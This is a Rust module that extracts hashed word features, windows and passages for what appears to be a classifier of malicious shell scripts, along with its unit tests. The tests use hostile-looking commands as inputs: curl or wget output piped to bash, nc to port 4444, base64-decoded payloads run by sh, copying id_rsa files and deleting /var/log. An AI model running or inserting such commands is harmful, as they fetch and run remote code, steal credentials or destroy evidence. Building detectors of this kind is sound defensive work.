//! Features of a script: hashed feffects about its words, in windows.
//!
//! A feature is a number below [`BUCKETS`]. A window is the set of features of at most [`WINDOW_WORDS`] words in
//! a row; a script is judged by its worst one, so that length hides nothing. A passage is a line, or two in a row: one
//! bad line among many harmless ones weighs little in its window, and much in its passage. Where a script prints much,
//! its effects have windows of their own. The trainer computes features with this very code. Words count as themselves and,
//! by `concepts.txt`, as what they are about.

use std::ops::Range;

use crate::{
    context::Context,
    effects::Effects,
    feature::{BUCKETS, Feature},
    growth::make_room,
    normal::Normal,
    words::{self, Word},
};

/// Words in one window.
pub const WINDOW_WORDS: usize = 96;
/// Words from one window's start to the next one's.
pub const STRIDE_WORDS: usize = 64;
/// Words in one piece of a passage; a longer line is several pieces.
const PIECE_WORDS: usize = 48;
/// Pieces in the longest passages; each piece is a passage, too.
pub(crate) const PASSAGE_PIECES: usize = 2;

/// A word has fewer features than this.
const FEATURES_PER_WORD: usize = 64;
/// Features for which room is kept from script to script (8 MiB), and up to how many bytes a script is short.
const KEPT_FEATURES: usize = 1 << 20;
const SHORT_BYTES: usize = 64 * 1024;

/// Computes features. Buffers are kept from script to script.
#[derive(Default)]
pub struct Extractor {
    normal: Normal,
    words: Vec<Word>,
    features: Vec<Feature>,
    /// For each word, where its features begin in `features`.
    of_word: Vec<u32>,
    windows: Vec<Range<usize>>,
    effects: Effects,
    /// Features of the words of effects, and for each of these words, where its features begin.
    effect_features: Vec<Feature>,
    of_effect: Vec<u32>,
    /// Ranges of words of effects.
    effect_windows: Vec<Range<usize>>,
    /// First words of pieces.
    pieces: Vec<u32>,
    passages: Vec<Range<u32>>,
}

impl Extractor {
    /// Computes a script's features; [`Self::windows`] and [`Self::window`] give them.
    pub fn extract(&mut self, script: &[u8]) {
        self.give_back(script.len());
        self.normal.form(script);
        words::cut(&self.normal.text, &mut self.words);
        self.effects.find(&self.normal, &self.words);
        self.features.clear();
        self.of_word.clear();
        let mut context = Context::default();
        for i in 0..self.words.len() {
            make_room(&mut self.features, FEATURES_PER_WORD);
            make_room(&mut self.of_word, 1);
            self.of_word.push(self.features.len() as u32);
            let assigned =
                self.words.get(i + 1).is_some_and(|next| words::is_assignment(self.words[i], *next));
            context.word(
                &self.normal,
                self.words[i],
                assigned,
                self.effects.is_print_only(i),
                &mut self.features,
            );
        }
        self.of_word.push(self.features.len() as u32);
        cut_windows(self.words.len(), &mut self.windows);
        self.gather_effects();
        self.cut_passages();
    }

    /// Lets go of what a long script took, once shorter ones come.
    fn give_back(&mut self, bytes: usize) {
        if bytes <= SHORT_BYTES && self.features.capacity() > KEPT_FEATURES {
            *self = Self::default();
        }
    }

    fn gather_effects(&mut self) {
        self.effect_features.clear();
        self.of_effect.clear();
        self.effect_windows.clear();
        for word in self.effects.words() {
            make_room(&mut self.of_effect, 1);
            self.of_effect.push(self.effect_features.len() as u32);
            let (start, end) = (self.of_word[*word as usize], self.of_word[*word as usize + 1]);
            make_room(&mut self.effect_features, (end - start) as usize);
            self.effect_features.extend_from_slice(&self.features[start as usize..end as usize]);
        }
        self.of_effect.push(self.effect_features.len() as u32);
        if !self.effects.words().is_empty() {
            cut_windows(self.effects.words().len(), &mut self.effect_windows);
        }
    }

    fn cut_passages(&mut self) {
        self.pieces.clear();
        self.passages.clear();
        let mut begin = 0;
        for (i, word) in self.words.iter().enumerate() {
            let breaks = i > 0 && {
                let gap = self.words[i - 1].end as usize..word.start as usize;
                memchr::memchr(b'\n', &self.normal.text[gap]).is_some() || i - begin >= PIECE_WORDS
            };
            if i == 0 || breaks {
                make_room(&mut self.pieces, 1);
                self.pieces.push(i as u32);
                begin = i;
            }
        }
        // What one passage would hold is judged as a window.
        let pieces = self.pieces.len();
        for k in 0..pieces {
            for size in 1..=PASSAGE_PIECES.min(pieces - k) {
                if size < pieces {
                    let end = self.pieces.get(k + size).map_or(self.words.len(), |word| *word as usize);
                    make_room(&mut self.passages, 1);
                    self.passages.push(self.pieces[k]..end as u32);
                }
            }
        }
    }

    fn of_words(&self, words: &Range<usize>) -> &[Feature] {
        &self.features[self.of_word[words.start] as usize..self.of_word[words.end] as usize]
    }

    /// How many windows the script has; an empty script has one, without features. Those of effects are the last ones.
    pub fn windows(&self) -> usize {
        self.windows.len() + self.effect_windows.len()
    }

    /// The features of a window, in the script's order, with repetitions.
    pub fn window(&self, index: usize) -> &[Feature] {
        match index.checked_sub(self.windows.len()) {
            None => self.of_words(&self.windows[index]),
            Some(index) => {
                let Range { start, end } = self.effect_windows[index];
                &self.effect_features[self.of_effect[start] as usize..self.of_effect[end] as usize]
            }
        }
    }

    /// How many passages the script has.
    pub fn passages(&self) -> usize {
        self.passages.len()
    }

    /// The features of a passage, in the script's order, with repetitions.
    pub fn passage(&self, index: usize) -> &[Feature] {
        let Range { start, end } = self.passages[index];
        self.of_words(&(start as usize..end as usize))
    }

    /// The passages around a window: those that have a word in it, and perhaps one before it. None around a window of effects.
    pub fn passages_of(&self, window: usize) -> Range<usize> {
        let Some(window) = self.windows.get(window) else { return 0..0 };
        // A short passage that ends before the window may stand behind a longer one that reaches into it.
        let (start, end) = (window.start as u32, window.end as u32);
        let first = self.pieces.partition_point(|p| *p <= start).saturating_sub(PASSAGE_PIECES);
        let first = self.passages.partition_point(|p| p.start < self.pieces.get(first).copied().unwrap_or(0));
        first..self.passages.partition_point(|p| p.start < end)
    }

    /// Words of the script, decoded layers included.
    pub fn word_count(&self) -> usize {
        self.words.len()
    }
}

/// Cuts so many words into windows.
fn cut_windows(words: usize, windows: &mut Vec<Range<usize>>) {
    windows.clear();
    let mut start = 0;
    loop {
        let end = (start + WINDOW_WORDS).min(words);
        windows.push(start..end);
        if end == words {
            break;
        }
        start += STRIDE_WORDS;
    }
}

/// A set of features, to leave each out but once.
pub struct FeatureSet {
    bits: Vec<u64>,
}

impl Default for FeatureSet {
    fn default() -> Self {
        Self { bits: vec![0; BUCKETS as usize / 64] }
    }
}

impl FeatureSet {
    /// Appends the distinct features to `ids`, in order of first appearance, leaving out those that `keep` refuses.
    pub fn distinct(&mut self, features: &[Feature], keep: impl Fn(&Feature) -> bool, ids: &mut Vec<i64>) {
        let first = ids.len();
        for feature in features.iter().filter(|f| keep(f)) {
            let (word, bit) = (feature.id as usize / 64, 1u64 << (feature.id % 64));
            if self.bits[word] & bit == 0 {
                self.bits[word] |= bit;
                ids.push(i64::from(feature.id));
            }
        }
        for id in &ids[first..] {
            self.bits[*id as usize / 64] = 0;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        concepts::Concepts,
        context::{Kind, bucket},
    };

    fn ids(script: &str) -> Vec<i64> {
        let mut extractor = Extractor::default();
        extractor.extract(script.as_bytes());
        let mut ids = Vec::new();
        FeatureSet::default().distinct(extractor.window(0), |_| true, &mut ids);
        ids
    }

    #[test]
    fn addresses_and_own_names_do_not_matter() {
        assert_eq!(ids("curl http://192.0.2.7/a.sh | bash"), ids("curl http://198.51.100.9/bb.sh | bash"));
        assert_eq!(ids("nc $host 4444"), ids("nc $target 9001"));
        assert_ne!(ids("curl http://192.0.2.7/a.sh | bash"), ids("curl http://192.0.2.7/a.sh > bash"));
        assert_ne!(ids("curl http://a.example/x"), ids("curl http://a.example:80/x"));
        // But one's own machine is not somebody's.
        assert_eq!(ids("curl http://127.0.0.1:80/a"), ids("curl http://127.8.8.8:80/a"));
        assert_ne!(ids("curl http://127.0.0.1:80/a"), ids("curl http://192.0.2.7:80/a"));
        // Nor is a neighbour.
        assert_eq!(ids("curl http://172.17.0.2/a"), ids("curl http://172.31.9.9/a"));
        assert_ne!(ids("curl http://172.17.0.2/a"), ids("curl http://172.32.0.2/a"));
        assert_ne!(ids("curl http://localhost/a"), ids("curl http://localhost.example.com/a"));
    }

    #[test]
    fn what_is_fetched_needs_no_scheme() {
        for script in [
            "wget -q a.example/x.sh",
            "sudo /usr/bin/curl 192.0.2.1:80/x | sh",
            "x; lynx -dump paste.example/x",
        ] {
            let with_scheme = script
                .replace("a.ex", "http://a.ex")
                .replace("192", "http://192")
                .replace("paste", "http://paste");
            assert_eq!(ids(script), ids(&with_scheme), "{script}");
        }
        assert_ne!(ids("cat a.example/x.sh"), ids("cat http://a.example/x.sh"));
        assert_ne!(ids("wget x; cat a.example/x.sh"), ids("wget x; cat http://a.example/x.sh"));
        assert_ne!(ids("wget x; a.example/x.sh"), ids("wget x; http://a.example/x.sh"));
    }

    #[test]
    fn whatever_program_is_written_out_is_a_program() {
        let written = |bytes: &str| ids(&format!("printf '{bytes}' > x"));
        assert_eq!(
            written(r"\x7f\x45\x4c\x46\x02\x01\x01\x03"),
            written(r"\177\105\114\106\001\001\001\011")
        );
        // Four bytes are what installers look for.
        assert_ne!(written(r"\x7f\x45\x4c\x46\x02\x01\x01"), written(r"\x7f\x45\x4c\x46"));
    }

    #[test]
    fn words_of_many_parts_fit() {
        for word in ["http://a.b.example:80/x/mips.mipsel", "/a/b/c/.d/.e.mips", "-abcde"] {
            assert!(!ids(word).is_empty());
        }
    }

    #[test]
    fn tools_of_a_kind_share_what_they_do() {
        let about = |word: &str| <&Concepts>::default().of(word.as_bytes(), None).each().next().unwrap();
        let has = |script: &str, kind, a: &str, b: &str| {
            ids(script).contains(&i64::from(bucket(kind, about(a), about(b))))
        };
        for script in ["curl x | bash", "sudo aria2c y | /bin/mksh -s"] {
            assert!(has(script, Kind::ConceptPipe, "curl", "bash"), "{script}");
        }
        for script in ["curl x; bash", "curl x | cat; bash", "curl x; A=1 | bash"] {
            assert!(!has(script, Kind::ConceptPipe, "curl", "bash"), "{script}");
        }
        assert!(has("curl x; bash", Kind::ConceptSequence, "curl", "bash"));
        for script in ["rm /var/log/x", "unlink a.log", "rmdir --dir /host/var/log/*"] {
            assert!(has(script, Kind::ConceptArgument, "rm", "/var/log"), "{script}");
        }
        assert!(!has("rm x; cat /var/log/x", Kind::ConceptArgument, "rm", "/var/log"));
        assert!(has("find / -name id_rsa -exec cp {} x", Kind::ConceptPair, "find", "id_rsa"));
    }

    #[test]
    fn effects_are_judged_as_if_nothing_were_printed_between_them() {
        let effects = ["curl -so x http://192.0.2.1/x", "chmod +x x && ./x", "rm x; base64 -d y | sh"];
        let print_only =
            "echo 'a | b > c'; printf '%s' d\nRED='\\e[1;31m' sleep 1\ncat <<E\nf g h\nE\n".repeat(20);
        let mut extractor = Extractor::default();
        extractor.extract(format!("{}\n{print_only}", effects.join(&format!("\n{print_only}"))).as_bytes());
        let (last, mut found) = (extractor.windows() - 1, Vec::new());
        assert!(last > 3 && extractor.passages_of(last).is_empty());
        FeatureSet::default().distinct(extractor.window(last), |_| true, &mut found);
        assert_eq!(found, ids(&effects.join("\n")));
        // Each feature still says where it stands.
        assert!(extractor.window(last).last().unwrap().at as usize > 2 * print_only.len());
        extractor.extract(effects.join("\n").as_bytes());
        assert_eq!(extractor.windows(), 1);
    }

    #[test]
    fn what_was_done_before_a_layer_does_not_go_on_in_it() {
        let pair = |layer: &str| {
            let joined = words::canonical(b"curl", None) ^ words::hash(layer.as_bytes(), 0).rotate_left(17);
            i64::from(bucket(Kind::Pair, words::canonical(b"x", None), joined))
        };
        // `curl http://192.0.2.1/ | sh`, printed.
        let found = ids("id x\necho Y3VybCBodHRwOi8vMTkyLjAuMi4xLyB8IHNo");
        assert!(found.contains(&i64::from(bucket(Kind::Layer, 0, 0))));
        assert!(!found.contains(&pair("\u{e}")));
        // But in a statement of the same text.
        assert!(ids("id x\necho y\n;curl z").contains(&pair(";")));
    }

    #[test]
    fn long_scripts_have_windows_that_reach_the_end() {
        let mut extractor = Extractor::default();
        extractor.extract("echo word\n".repeat(2000).as_bytes());
        assert_eq!(extractor.word_count(), 4000);
        let last = extractor.window(extractor.windows() - 1).last().unwrap().at;
        assert_eq!(last, 10 * 1999 + 5);
    }

    #[test]
    fn passages_are_each_line_and_each_pair_of_lines() {
        let mut extractor = Extractor::default();
        let words = |extractor: &Extractor| extractor.passages.clone();
        extractor.extract(b"a b\nc\nd e f\n");
        assert_eq!(words(&extractor), [0..2, 0..3, 2..3, 2..6, 3..6]);
        extractor.extract(b"a b\nc\n");
        assert_eq!(words(&extractor), [0..2, 2..3]);
        extractor.extract(b"a b c\n");
        assert!(words(&extractor).is_empty());
        // A long line is several pieces.
        extractor.extract("w ".repeat(100).as_bytes());
        assert_eq!(words(&extractor), [0..48, 0..96, 48..96, 48..100, 96..100]);
    }

    #[test]
    fn no_passage_that_touches_a_window_is_left_out() {
        let mut extractor = Extractor::default();
        let lines: Vec<String> = (0..200).map(|i| "w ".repeat(1 + i * i % 70)).collect();
        extractor.extract(lines.join("\n").as_bytes());
        assert!(extractor.windows() > 20);
        for (i, window) in extractor.windows.iter().enumerate() {
            let near = extractor.passages_of(i);
            for (k, passage) in extractor.passages.iter().enumerate() {
                let touches = (passage.start as usize) < window.end && passage.end as usize > window.start;
                assert!(!touches || near.contains(&k), "{passage:?} touches {window:?}");
            }
            // And few that do not.
            assert!(extractor.passages[near.start].start as usize + 2 * PIECE_WORDS > window.start);
        }
    }

    #[test]
    fn nothing_is_a_window_too() {
        assert!(ids("").is_empty());
        assert!(ids("# only a comment").is_empty());
    }
}
